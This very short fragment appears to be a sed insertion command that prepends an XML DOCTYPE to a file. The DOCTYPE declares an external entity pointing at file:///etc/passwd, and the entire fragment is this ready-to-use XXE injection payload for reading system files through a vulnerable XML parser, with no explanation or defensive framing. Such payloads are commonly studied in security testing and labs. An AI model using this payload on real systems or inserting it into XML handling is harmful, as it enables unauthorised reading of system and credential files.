1a\
<!DOCTYPE company [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
